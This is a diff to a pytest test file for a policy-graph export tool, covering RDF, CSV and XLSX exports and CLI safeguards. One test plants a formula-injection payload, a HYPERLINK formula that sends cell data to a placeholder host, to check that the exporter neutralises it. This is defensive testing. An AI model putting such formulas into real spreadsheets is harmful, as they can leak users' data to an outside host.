@@ -27,7 +27,16 @@ from policygraph.ontology.export import (
     to_json,
     write_export,
 )
-from policygraph.ontology.rdf import from_rdf, node_iri, parse_rdf, sparql, to_jsonld, to_rdf, to_turtle
+from policygraph.ontology.rdf import (
+    from_rdf,
+    node_iri,
+    parse_rdf,
+    read_rdf,
+    sparql,
+    to_jsonld,
+    to_rdf,
+    to_turtle,
+)
 
 PG = rdflib.Namespace(vocab.PG)
 
@@ -171,7 +180,7 @@ def test_csv_keeps_rows_on_one_line() -> None:
 @pytest.mark.parametrize("fmt", ["turtle", "json-ld"])
 def test_rdf_round_trips(graph: nx.MultiDiGraph, fmt: str) -> None:
     text = to_turtle(graph) if fmt == "turtle" else to_jsonld(graph)
-    g = rdflib.Graph().parse(data=text, format=fmt)
+    g = read_rdf(text, fmt)
     assert len(g) == len(to_rdf(graph))
     back = from_rdf(g)
     assert set(back.nodes) == set(graph.nodes)
@@ -374,21 +383,56 @@ def test_cli_export_to_a_file(runner: CliRunner, store: Path, tmp_path: Path, fm
     assert r.exit_code == 0, r.output
     text = out.read_text(encoding="utf-8")
     if fmt == "ttl":
-        assert from_rdf(rdflib.Graph().parse(data=text, format="turtle")).number_of_edges() == 19
+        assert from_rdf(read_rdf(text, "turtle")).number_of_edges() == 19
     elif fmt == "jsonld":
-        assert from_rdf(rdflib.Graph().parse(data=text, format="json-ld")).number_of_nodes() == 15
+        assert from_rdf(read_rdf(text, "json-ld")).number_of_nodes() == 15
     elif fmt == "graphml":
         assert nx.read_graphml(out).number_of_edges() == 19
     else:
         assert len(json.loads(text)["edges"]) == 19
 
 
-def test_cli_export_csv_needs_a_folder(runner: CliRunner, store: Path, tmp_path: Path) -> None:
+def test_cli_export_csv_is_a_folder_given_with_out_dir(runner: CliRunner, store: Path, tmp_path: Path) -> None:
     r = invoke(runner, "export", "--format", "csv", "--store", str(store))
-    assert r.exit_code != 0 and "folder" in r.output
-    r = invoke(runner, "export", "--format", "csv", "-o", str(tmp_path / "csv"), "--store", str(store))
+    assert r.exit_code == 1 and r.stderr.count("\n") == 1 and "--out-dir DIR" in r.stderr
+    # -o report.csv used to make a folder named report.csv, silently: now it says what csv is
+    r = invoke(runner, "export", "--format", "csv", "-o", str(tmp_path / "report.csv"), "--store", str(store))
+    assert r.exit_code == 1 and r.stderr.count("\n") == 1
+    assert "Neo4j-import" in r.stderr and "--out-dir" in r.stderr and not (tmp_path / "report.csv").exists()
+    r = invoke(runner, "export", "--format", "ttl", "--out-dir", str(tmp_path / "x"), "--store", str(store))
+    assert r.exit_code == 1 and "--out-dir is for --format csv" in r.stderr and not (tmp_path / "x").exists()
+    r = invoke(runner, "export", "--format", "csv", "--out-dir", str(tmp_path / "csv"), "--store", str(store))
     assert r.exit_code == 0, r.output
-    assert (tmp_path / "csv" / "nodes.csv").exists() and (tmp_path / "csv" / "relationships.csv").exists()
+    assert "Neo4j-import" in r.stderr
+    nodes = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "nodes.csv").read_text(encoding="utf-8"))))
+    rels = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "relationships.csv").read_text(encoding="utf-8"))))
+    assert (len(nodes), len(rels)) == (15, 19)
+
+
+def test_cli_export_dash_is_standard_output(runner: CliRunner, store: Path, tmp_path: Path) -> None:
+    r = invoke(runner, "export", "--format", "ttl", "-o", "-", "--store", str(store))
+    assert r.exit_code == 0, r.output
+    assert from_rdf(read_rdf(r.stdout, "turtle")).number_of_edges() == 19
+    assert not Path("-").exists()
+
+
+@pytest.mark.parametrize("fmt", ["json", "graphml", "ttl", "jsonld"])
+def test_cli_export_refuses_to_overwrite_the_store(runner: CliRunner, store: Path, tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
+    before = store.read_bytes()
+    link = tmp_path / "link.json"
+    link.symlink_to(store)
+    monkeypatch.chdir(tmp_path)
+    for target in (str(store), "store.json", "./store.json", str(link), str(store) + ".lock"):
+        r = invoke(runner, "export", "--format", fmt, "-o", target, "--store", str(store))
+        assert r.exit_code == 1, (target, r.output)
+        assert r.stderr.count("\n") == 1 and "refusing to write" in r.stderr and "store" in r.stderr
+    monkeypatch.setenv("POLICYGRAPH_STORE", str(store))  # the store named by the environment, not --store
+    r = invoke(runner, "export", "--format", fmt, "-o", "store.json")
+    assert r.exit_code == 1 and "refusing to write" in r.stderr
+    assert store.read_bytes() == before
+    r = invoke(runner, "export", "--format", "csv", "--out-dir", str(tmp_path), "--store", str(store))
+    assert r.exit_code == 0 and store.read_bytes() == before  # a folder beside the store is fine
 
 
 def test_cli_without_a_store_says_so(runner: CliRunner, tmp_path: Path) -> None:
@@ -431,3 +475,74 @@ def test_cli_view(runner: CliRunner, store: Path, tmp_path: Path) -> None:
 def test_write_export_rejects_unknown_format(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="unknown export format"):
         write_export(graph, "xml", tmp_path / "x")
+
+
+# ------------------------------------------------------------------------------------------ report exports
+def _sample_reports(graph: nx.MultiDiGraph) -> tuple[dict[str, Any], dict[str, Any]]:
+    from policygraph.graph import queries as q
+
+    return (q.lineage_to_dict(q.lineage(graph, D31, "down")), q.coverage_to_dict(q.coverage(graph, D31)))
+
+
+def test_report_rows_follow_the_lineage_and_the_coverage(graph: nx.MultiDiGraph) -> None:
+    from policygraph.ontology.report import COVERAGE_COLUMNS, LINEAGE_COLUMNS, coverage_rows, lineage_rows
+
+    tree, cov = _sample_reports(graph)
+    rows = lineage_rows(tree)
+    # one row per hop, depth first: who carries out 31-NQ/TW, and what carries those out
+    assert [(r["depth"], r["parent"], r["id"]) for r in rows if r["relation"] == "IMPLEMENTS"] == [
+        (1, D31, HCM08), (2, HCM08, PLAN150)]
+    assert all(set(r) == set(LINEAGE_COLUMNS) for r in rows)
+    hcm = next(r for r in rows if r["id"] == HCM08)
+    assert hcm["jurisdiction"] == "Thành phố Hồ Chí Minh" and "31-NQ/TW" in hcm["sentence"]
+    assert hcm["source_file"] == "tphcm_08-nq-tu.txt" and hcm["seen"] is False
+    crows = coverage_rows(cov)
+    assert [(r["id"], r["distance"], r["chain"]) for r in crows] == [
+        (HCM08, 1, "08-NQ/TU → 31-NQ/TW"), (PLAN150, 2, "150/KH-UBND → 08-NQ/TU → 31-NQ/TW")]
+    assert all(set(r) == set(COVERAGE_COLUMNS) for r in crows)
+    assert crows[1]["relation"] == "IMPLEMENTS" and "08-NQ/TU" in crows[1]["sentence"]
+
+
+def test_report_csv_is_utf8_with_bom_and_never_a_formula(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
+    from policygraph.ontology.report import COVERAGE_COLUMNS, coverage_rows, write_report
+
+    _, cov = _sample_reports(graph)
+    rows = coverage_rows(cov)
+    rows[0]["sentence"] = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'  # a hostile sentence
+    rows[1]["title"] = "x" * 40_000
+    path = write_report(rows, COVERAGE_COLUMNS, tmp_path / "coverage.csv")
+    data = path.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
+    back = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [r["id"] for r in back] == [HCM08, PLAN150]
+    assert back[0]["jurisdiction"] == "Thành phố Hồ Chí Minh"
+    assert back[0]["sentence"] == "'" + rows[0]["sentence"]  # shown as text, not run
+    assert len(back[1]["title"]) == 32_767 and back[1]["title"].endswith("…")
+    assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_report_xlsx_holds_text_as_text(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
+    import zipfile
+    from xml.etree import ElementTree as ET
+
+    from policygraph.ontology.report import LINEAGE_COLUMNS, lineage_rows, write_report
+
+    tree, _ = _sample_reports(graph)
+    rows = lineage_rows(tree)
+    rows[0]["sentence"] = "=1+1"
+    path = write_report(rows, LINEAGE_COLUMNS, tmp_path / "lineage.xlsx")
+    with zipfile.ZipFile(path) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
+        strings = [t.text for t in ET.fromstring(z.read("xl/sharedStrings.xml")).iter() if t.tag.endswith("}t")]
+    assert "<f>" not in sheet  # no cell is a formula
+    assert "=1+1" in strings and "Thành phố Hồ Chí Minh" in strings and HCM08 in strings
+    assert strings[: len(LINEAGE_COLUMNS)] == list(LINEAGE_COLUMNS)
+    assert sheet.count("<row ") == len(rows) + 1
+
+
+def test_report_refuses_an_unknown_suffix(tmp_path: Path) -> None:
+    from policygraph.ontology.report import LINEAGE_COLUMNS, write_report
+
+    with pytest.raises(ValueError, match="a report is .csv or .xlsx"):
+        write_report([], LINEAGE_COLUMNS, tmp_path / "r.ods")
+    assert list(tmp_path.iterdir()) == []
